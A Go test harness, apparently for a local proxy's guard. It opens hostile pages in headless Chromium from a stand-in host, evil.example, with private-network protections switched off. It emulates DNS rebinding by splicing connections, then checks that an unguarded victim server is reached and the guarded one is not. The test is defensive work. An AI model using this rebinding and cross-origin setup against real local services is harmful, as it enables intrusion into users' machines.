package main

import (
	"bufio"
	"bytes"
	"context"
	_ "embed"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"time"
)

// page sends requests in every way that a page can, and reports the results.
//
//go:embed page.html
var page string

// browser opens two hostile pages in Chromium: one of another origin, and one whose
// name was rebound to this machine, so that hmaproxy is its own origin. The page
// then attacks a server without a guard, which shows that its attacks work.
func browser(ctx context.Context) error {
	chromium, err := need(ctx, "chromium", "chromium")
	if err != nil {
		return err
	}
	s, err := newStand(ctx)
	if err != nil {
		return err
	}
	defer s.close()
	victim, err := newVictim()
	if err != nil {
		return err
	}
	defer victim.Close()
	for _, attack := range []struct {
		name   string
		target string // address that is attacked
		rebind bool
	}{
		{"a page of another origin, no guard", victim.address, false}, {"a rebound page, no guard", victim.address, true},
		{"a page of another origin", s.clients[0], false}, {"a rebound page", s.clients[0], true},
	} {
		report, err := visit(ctx, chromium, attack.target, attack.rebind)
		if err != nil {
			return fmt.Errorf("%s: %w", attack.name, err)
		}
		fmt.Printf("   %s: %s\n", attack.name, report)
	}
	kinds := victim.kinds()
	fmt.Printf("   without a guard there came: %s\n   Exchange was asked %d times\n", strings.Join(kinds, ", "), len(s.came()))
	if came := s.came(); len(came) > 0 {
		return fmt.Errorf("a page's requests reached Exchange: %q", came)
	}
	for _, kind := range []string{"POST text/plain", "POST text/xml", "GET", "GET upgrade"} {
		if !slices.Contains(kinds, kind) {
			return fmt.Errorf("the page never sends a %s, so this proves nothing", kind)
		}
	}
	return nil
}

// visit opens the page in Chromium under its own host name, and returns the page's
// report.
func visit(ctx context.Context, chromium, target string, rebind bool) (report string, err error) {
	_, port, err := net.SplitHostPort(target)
	if err != nil {
		return "", err
	}
	own := "127.0.0.2:0"
	if rebind {
		own = "127.0.0.2:" + port // the port of a rebound page stays the same
	}
	l, err := net.Listen("tcp", own)
	if err != nil {
		return "", err
	}
	defer l.Close()
	a := &attacker{target: target, reports: make(chan string, 1)}
	go a.serve(l)
	desk, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		return "", err
	}
	defer desk.Close()
	go http.Serve(desk, http.HandlerFunc(a.report))
	profile, err := os.MkdirTemp("", "door")
	if err != nil {
		return "", err
	}
	defer os.RemoveAll(profile)
	_, own, _ = net.SplitHostPort(l.Addr().String())
	_, back, _ := net.SplitHostPort(desk.Addr().String())
	ctx, cancel := context.WithTimeout(ctx, 40*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
		"--no-first-run", "--no-proxy-server", "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
		"--user-data-dir="+profile, "--host-resolver-rules=MAP evil.example 127.0.0.2", "http://evil.example:"+own+"/?"+port+","+back)
	var said bytes.Buffer
	cmd.Stdout, cmd.Stderr, cmd.WaitDelay = &said, &said, time.Second
	if err := cmd.Start(); err != nil {
		return "", err
	}
	defer func() { cancel(); _ = cmd.Wait() }()
	select {
	case report := <-a.reports:
		return report, nil
	case <-ctx.Done():
		return "", fmt.Errorf("the page never reported; Chromium said %.300q", said.String())
	}
}

// An attacker serves the page and receives its report. It passes every other
// request to the target unchanged. Browser and target therefore see the same as
// after a change of the name's address.
type attacker struct {
	target  string
	reports chan string
}

func (a *attacker) serve(l net.Listener) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go a.handle(c)
	}
}

func (a *attacker) handle(c net.Conn) {
	defer c.Close()
	in := bufio.NewReader(c)
	first, err := in.Peek(len("GET /?"))
	switch {
	case err != nil:
	case string(first) == "GET /?":
		if _, err := http.ReadRequest(in); err == nil {
			text := strings.Replace(page, "ENVELOPE", envelope, 1)
			fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", len(text), text)
		}
	default:
		a.splice(c, in)
	}
}

// report receives the page's report.
func (a *attacker) report(_ http.ResponseWriter, r *http.Request) {
	text, err := io.ReadAll(io.LimitReader(r.Body, 1<<10))
	if err == nil && r.Method == http.MethodPost {
		a.reports <- string(text)
	}
}

func (a *attacker) splice(c net.Conn, in *bufio.Reader) {
	there, err := net.Dial("tcp", a.target)
	if err != nil {
		return
	}
	defer there.Close()
	go func() {
		_, _ = io.Copy(there, in)
		_ = there.(*net.TCPConn).CloseWrite()
	}()
	_, _ = io.Copy(c, there)
}

// A victim is a server without a guard. It accepts every request.
type victim struct {
	*http.Server
	address string
	mu      sync.Mutex
	seen    map[string]bool
}

func newVictim() (*victim, error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	v := &victim{address: l.Addr().String(), seen: make(map[string]bool)}
	v.Server = &http.Server{Handler: v}
	go v.Serve(l)
	return v, nil
}

func (v *victim) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	kind := r.Method
	if r.Method == http.MethodPost {
		kind += " " + strings.Split(r.Header.Get("Content-Type"), ";")[0]
	}
	if r.Header.Get("Upgrade") != "" {
		kind += " upgrade"
	}
	v.mu.Lock()
	v.seen[kind] = true
	v.mu.Unlock()
	_, _ = io.Copy(io.Discard, r.Body)
}

func (v *victim) kinds() (all []string) {
	v.mu.Lock()
	defer v.mu.Unlock()
	for kind := range v.seen {
		all = append(all, kind)
	}
	slices.Sort(all)
	return all
}
